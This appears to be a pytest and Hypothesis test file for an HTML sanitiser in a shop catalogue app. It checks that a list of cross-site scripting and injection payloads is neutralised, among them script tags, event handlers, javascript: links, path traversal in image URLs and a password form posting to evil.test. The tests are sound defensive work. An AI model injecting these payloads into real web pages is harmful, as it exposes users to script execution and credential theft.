from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.catalogue.markup import clean_html, plain_text

# Ways to smuggle script into HTML, each of which some sanitiser has let through.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif'>",
    "<img src='/media/../../admin/users'>",
    "<img src='/media/%2e%2e/search'>",
    "<img src='/media/1/%2e%2e/%2e%2e/admin/logout'>",
    "<img src='/media/1/a.webp/../../../admin/logout'>",
    "<img src='/media/1\\..\\a.webp'>",
    "<img src='/media//evil.test/a.webp'>",
    "<img src='/media/1/a.webp?x=1'>",
    "<img src='/media/1/a.webp#x'>",
    "<img src='/media/1/a.webp;x'>",
    "<img src='/media/1/\t../search'>",
    "<img src='/media/١/a.webp'>",
    "<img src='/MEDIA/1/a.webp'>",
    "<img srcset='https://evil.test/a 1x' src='/media/1/a.webp'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p style='background:url(https://evil.test)'>x</p>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<form action=//evil.test><input name=password><button>Go</button></form>",
    "<p hx-get='/admin/users' hx-trigger='load'>x</p>",
    "<p data-hx-get='/x'>x</p>",
    "<p id=main class=btn>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<p title=\"' onmouseover='alert(1)\">x</p>",
    "<img alt='\" onerror=alert(1) x=\"' src=/media/1/a.webp>",
    "<img alt='><script>alert(1)</script>' src=x>",
]
ALLOWED_TAGS = (
    "p br hr strong b em i u s sub sup small code pre blockquote a img ul ol li dl dt dd h2 h3 h4 "
    "table caption thead tbody tfoot tr th td"
)
ALLOWED_ATTRIBUTES = "href title rel src alt width height colspan rowspan scope"
PIECES = [*ATTACKS, "<p>", "</p>", "<table>", "<a href='", '"', "text", "<", ">", "&"]


class Reader(HTMLParser):
    """Reads as a browser does, and fails on any tag or attribute that is not one of the few allowed."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS.split()
        assert {name for name, _ in attrs} <= set(ALLOWED_ATTRIBUTES.split())
        for name, value in attrs:
            if name in ("href", "src"):
                assert not re.match(r"(?i)\s*(javascript|data|vbscript):", value or "")
            if name == "src":
                assert re.fullmatch(r"/media/1/a\.webp", value or "")


def _cleaned(text: str) -> str:
    return clean_html(text, site_id=1)


def assert_harmless(cleaned: str) -> None:
    Reader().feed(cleaned)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_calls_out_survives(attack: str) -> None:
    assert_harmless(_cleaned(attack))
    assert_harmless(_cleaned(f"<table><tr><td>{attack}</td></tr></table>"))


@given(
    st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<table>", "<a href='", '"', "text", "<", ">", "&"]), max_size=8)
)
def test_pieces_put_together_are_harmless_too_and_cleaning_twice_changes_nothing(pieces: list[str]) -> None:
    cleaned = _cleaned("".join(pieces))
    assert_harmless(cleaned)
    assert _cleaned(cleaned) == cleaned


def test_what_a_shop_writes_stays() -> None:
    text = '<h2>Care</h2><p>Wash at <strong>30°</strong>.</p><img src="/media/1/a.webp" alt="x">'
    assert _cleaned(text) == text


@pytest.mark.parametrize("site", [2, 11, 10])
def test_a_picture_of_another_site_does_not(site: int) -> None:
    assert _cleaned(f'<p>x<img src="/media/{site}/a.webp"></p>') == "<p>x</p>"


def test_plain_text_with_signs_is_read_as_text() -> None:
    assert _cleaned("Fits 5 < 6 & more") == "Fits 5 &lt; 6 &amp; more"
    assert plain_text(_cleaned("Fits 5 < 6 & more")) == "Fits 5 < 6 & more"


def test_words_of_neighbouring_blocks_do_not_run_together() -> None:
    assert plain_text("<ul><li>red</li><li>blue</li></ul><p>and<br>green</p>") == "red blue and green"
